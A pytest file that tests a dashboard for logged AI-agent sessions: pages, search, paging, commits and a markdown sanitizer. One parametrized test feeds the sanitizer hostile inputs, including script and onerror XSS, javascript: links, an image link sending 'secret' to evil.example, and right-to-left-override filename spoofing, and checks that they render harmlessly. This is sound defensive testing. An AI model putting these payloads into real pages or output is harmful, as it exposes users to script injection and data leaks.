"""The pages of sessions: read from the first prompt to the last answer, and searched."""

import html
import re
from itertools import count

import pytest
from dashboard_page import HOST, NOW, TOKEN, Browser
from test_dashboard_memories import log, owner, tenants

from serve.dashboard.markdown import markdown, plain
from serve.dashboard.session_pages import TURNS
from serve.hooks import speaking
from store.home.instants import moment
from store.log import commands
from store.log.commands import Draft
from store.log.event_kinds import Acted, Body, Prompted, SessionTold
from store.log.event_log import EventLog
from store.log.events import Event

__all__ = ["log", "owner", "tenants"]  # fixtures

LIST = "/t/default/sessions"
PAGE = "/t/default/session?session=s1"
PROJECT = "acme/shop"
MINUTE = 60_000_000


def tell(log: EventLog, *bodies: Body, session: str = "s1") -> None:
    """Append the events of an agent's hooks, a minute apart, the last one a minute ago."""
    began = NOW - len(bodies) * MINUTE
    ids = [f"{session}-{number}" for number in range(len(bodies))]
    log.append(
        [
            Event(id_, began + place * MINUTE, body, id_, PROJECT, session, "codex", "agent")
            for place, id_, body in zip(count(), ids, bodies, strict=False)
        ]
    )


def ran(command: str, passed: bool | None, **more: str) -> Acted:
    return Acted(tool="Bash", doing="run", command=command, passed=passed, **more)


def told(text: str) -> SessionTold:
    return SessionTold(stage="stopped", said=text)


def words_of(page: str) -> str:
    return " ".join(html.unescape(re.sub("<[^>]+>", " ", page)).split())


def test_a_session_reads_from_its_first_prompt_to_its_last_answer(owner, log):
    long = "The cookie had no max age.\n\n" + "It is set by the middleware now. " * 100 + "THE END"
    edit = Acted(tool="Edit", doing="edit", files=("shop/cookies.py",))
    tell(log, Prompted(prompt="Why do\nsessions expire?"), edit, told(long), Prompted(prompt="ok"))
    page = owner.get(PAGE).text
    assert page.index("sessions expire?") < page.index("THE END") < page.index('id="turn-2"')
    assert "Why do\nsessions expire?" in page  # the lines as they were typed
    assert "shop/cookies.py" in page and "2 Edited" in words_of(page)


def test_an_answer_is_laid_out_as_the_agent_wrote_it(owner, log):
    lines = "## Done", "", "- **two** files", "- `one()`", "", "```", "x < y", "```"
    table = "", "| a | b |", "|---|---|", "| 1 | 2 |"
    answer = "\n".join(lines + table)
    tell(log, Prompted(prompt="do it"), told(answer))
    page = owner.get(PAGE).text
    for shown in ("<p><strong>Done</strong></p>", "<li><strong>two</strong> files</li>"):
        assert shown in page
    for shown in ("<code>one()</code>", "<td>1</td>", "x &lt; y"):
        assert shown in page
    assert "##" not in page and "**" not in page


def test_a_commands_failure_is_shown_with_what_it_wrote_and_how_it_ended(owner, log):
    failed = ran("pytest -q", False, effort="test", output="E assert 3 == 4")
    passed = ran("pytest -q", True, effort="test", output="9 passed")
    tell(log, Prompted(prompt="mend it"), failed, passed, ran("ls", None))
    page = owner.get(PAGE).text
    assert "E assert 3 == 4" in page and "9 passed" in page
    shown = words_of(page)
    assert "Commands 3, 1 failed test failed, then passed" in shown
    assert "pytest -q failed E assert 3 == 4 pytest -q passed" in shown


def test_an_edit_is_shown_with_the_lines_that_it_added_and_removed(owner, log):
    edit = Acted(
        tool="Edit", doing="edit", files=("shop/cookies.py",), diff="- age = 1\n+ age = '<b>'\n+ x"
    )
    again = Acted(tool="Edit", doing="edit", files=("shop/cookies.py",), diff="+ y = 'harbour'")
    failed = Acted(tool="Edit", doing="edit", files=("b.py",), passed=False)
    tell(log, Prompted(prompt="set the age"), edit, again, failed, told("Done."))
    page = owner.get(PAGE).text
    assert "edited shop/cookies.py +3 −1" in words_of(page) and "edited b.py" not in words_of(page)
    assert '<del dir="auto">age = 1</del>' in page
    assert '<ins dir="auto">age = &#39;&lt;b&gt;&#39;</ins>' in page
    assert "<details" in page and '<details class="more" open>' not in page
    found = owner.get(f"{PAGE}&q=HARBOUR").text  # a word that no other part of the turn has
    assert "<mark>harbour</mark>" in found and '<details class="more" open>' in found


def test_a_session_is_searched_for_words_wherever_they_stand(owner, log):
    tell(
        log,
        Prompted(prompt="rename the Harbour module"),
        told("Renamed."),
        Prompted(prompt="and now run it"),
        ran("make lighthouse", False, output="no rule for HARBOUR"),
        Prompted(prompt="thanks"),
    )
    both = owner.get(f"{PAGE}&q=harbour").text
    assert "2 turns have this word" in words_of(both)
    assert "<mark>Harbour</mark>" in both and "<mark>HARBOUR</mark>" in both
    assert 'id="turn-3"' not in both
    one = owner.get(f"{PAGE}&q=harbour+lighthouse").text
    assert "1 turn has all these words" in words_of(one) and 'id="turn-2"' in one
    none = owner.get(f"{PAGE}&q=zanzibar")
    assert none.status_code == 200 and "No turn has it" in none.text


def test_a_long_session_is_read_a_part_at_a_time(owner, log):
    tell(log, *(Prompted(prompt=f"prompt {number}.") for number in range(1, 2 * TURNS + 4)))
    path, seen = PAGE, []
    while path:
        page = owner.get(path).text
        seen += re.findall(r'auto">prompt (\d+)\.</p>', page)
        links = dict(re.findall(r'rel="(next|prev)" href="([^"]+)"', page))
        path = html.unescape(links.get("next", ""))
    assert seen == [str(number) for number in range(1, 2 * TURNS + 4)]
    assert "from=" in links["prev"]
    last = re.search(r'href="([^"]+)">Last</a>', owner.get(PAGE).text)
    assert last and owner.get(html.unescape(last[1])).text == page
    beyond = owner.get(f"{PAGE}&from=9999").text
    assert "prompt 53.</p>" in beyond and "prompt 52.</p>" not in beyond


def test_a_sessions_commits_stand_beside_it(owner, log):
    tell(log, Prompted(prompt="set the cookie's age"), told("Done."))
    for text, at, project in (
        ("Set the max age of session cookies", NOW - MINUTE, PROJECT),
        ("Half an hour later: mend its test", NOW + 30 * MINUTE, PROJECT),
        ("Made the day before", NOW - 24 * 60 * MINUTE, PROJECT),
        ("Made elsewhere", NOW - MINUTE, "acme/other"),
    ):
        facts = {"kind": "bugfix", "source": "git", "project": project}
        draft = Draft(content=text, created_at=moment(at), **facts)
        commands.record(log, draft, NOW)
    page = words_of(owner.get(PAGE).text)
    assert "Set the max age of session cookies" in page and "mend its test" in page
    assert "the day before" not in page and "elsewhere" not in page


def test_the_list_says_what_came_of_a_session(owner, log):
    tell(log, Prompted(prompt="set the age"), ran("make", False), told("**First** answer"))
    answers = told("## Result\n\nThe age of `cookies` is a week."), SessionTold(stage="ended")
    tell(log, Prompted(prompt="which age?"), *answers, session="s2")
    page = words_of(owner.get(LIST).text)
    assert "1 step · 1 failed First answer" in page
    assert "Result The age of cookies is a week." in page


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "![shot](https://evil.example/?q=secret)",
        "[click](javascript:alert(1)) [here](https://evil.example) <https://auto.example>",
        "[a]: https://evil.example\n\n[text][a]",
        '```html"><script>\n<script>alert(1)</script>\n```',
        "| <b>a</b> |\n|---|\n| [x](https://evil.example) |",
        "\x1b[31mred \u202egnp.exe",
    ],
)
def test_markdown_loads_nothing_and_leads_nowhere(text: str):
    shown = markdown(text, ["alert"])
    tags = set(re.findall(r"<([a-z0-9]+)", shown))
    assert tags <= set("p strong em code pre mark span table thead tbody tr th td".split())
    assert not re.search("[\x00-\x08\x1b\u202a-\u202e]", shown)
    assert "src=" not in re.sub("&lt;.*?&gt;", "", shown) and "href=" not in shown


def test_a_links_address_stands_beside_its_words():
    assert "the docs <span" in markdown("[the docs](https://docs.example/a)")
    assert "(https://docs.example/a)" in markdown("[the docs](https://docs.example/a)")
    assert "cookies.py" in markdown("[cookies.py](shop/cookies.py)")
    assert "(" not in markdown("[cookies.py](shop/cookies.py)")


def test_plain_gives_one_line_without_marks():
    assert plain("Both **pass**.\n\n## Files\n\n1. `a.py`\n2. b") == "Both pass. Files a.py b"
    assert len(plain("word " * 500)) <= 240


# The page of a prompt without an answer


def hook(owner: Browser, moment: str, **event: object) -> None:
    sent = {"hook_event_name": moment, "session_id": "s9", "cwd": "/tmp"} | event
    answer = owner.client.post(
        "/v1/hooks/claude-code", json=sent, headers=HOST | {"Authorization": f"Bearer {TOKEN}"}
    )
    assert answer.status_code in (200, 204)


def test_a_silent_prompts_page_says_what_was_known_and_which_of_its_files_were_touched(
    owner, log, tenants, monkeypatch
):
    monkeypatch.setattr(speaking, "best", lambda _: ())
    for content in (
        "The lamps are lit by lantern.py at dusk",
        "The lamps are bought by oldlantern.py",
    ):
        commands.record(log, Draft(content=content, created_at=moment(NOW - MINUTE)), NOW - MINUTE)
    hook(owner, "UserPromptSubmit", prompt="can you have a look at one of those lamps again?")
    edit = {"file_path": "/tmp/harbour/lantern.py", "old_string": "a", "new_string": "b"}
    hook(owner, "PostToolUse", tool_name="Edit", tool_input=edit, tool_response={})
    tenants.get("default").notes.write()
    receipt = next(event for event in log.session_events("s9") if event.kind == "recalled")
    page = words_of(owner.get(f"/t/default/recall/{receipt.id}").text)
    assert not receipt.body.hits
    known = page.partition("Known, and not said")[2]
    assert known.index("lantern.py at dusk touched") < known.index("bought by oldlantern.py")
    assert known.count("touched") == 1
    # the turn itself came later, so it was not known then
    assert "those lamps again?" not in known


# Held-out sessions


def test_the_page_of_a_trial_says_how_to_begin_one(owner):
    page = owner.get("/t/default/trial").text
    assert "mnemolog trial holdout --share 0.2" in page
    assert "/t/default/trial" in owner.get("/t/default/overview").text


def test_the_page_of_a_trial_compares_the_sessions(owner, log):
    for number in range(8):
        began = SessionTold(stage="started", drawn=0.5, is_held_out=number % 2 == 0)
        work = [ran("make", False)] * (3 if number % 2 == 0 else 1)
        tell(
            log,
            began,
            Prompted(prompt="go"),
            *work,
            SessionTold(stage="ended"),
            session=f"t{number}",
        )
    page = words_of(owner.get("/t/default/trial").text)
    assert "Told 4 sessions Held out 4" in page and "none is held out any more" in page
    assert "commands that failed 1.00 3.00 -2.00" in page
